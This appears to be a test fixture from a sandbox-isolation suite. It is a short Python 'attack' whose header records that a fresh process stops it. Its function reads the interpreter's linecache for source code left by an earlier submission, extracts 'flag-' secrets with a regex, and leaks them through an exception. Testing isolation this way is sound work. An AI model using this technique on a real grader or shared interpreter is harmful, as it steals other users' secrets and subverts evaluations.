# /// attack
# tries = "reads the source of the submission before it in the interpreter's caches"
# wins = "flag"
# stopped_by = ["fresh process"]
# proof = {without = ["fresh"]}
# ///
import linecache
import re


def attack():
    sources = ("".join(entry[2]) for entry in linecache.cache.values() if len(entry) == 4)
    raise RuntimeError(re.findall("flag-[0-9a-f]{24}", "".join(sources)))
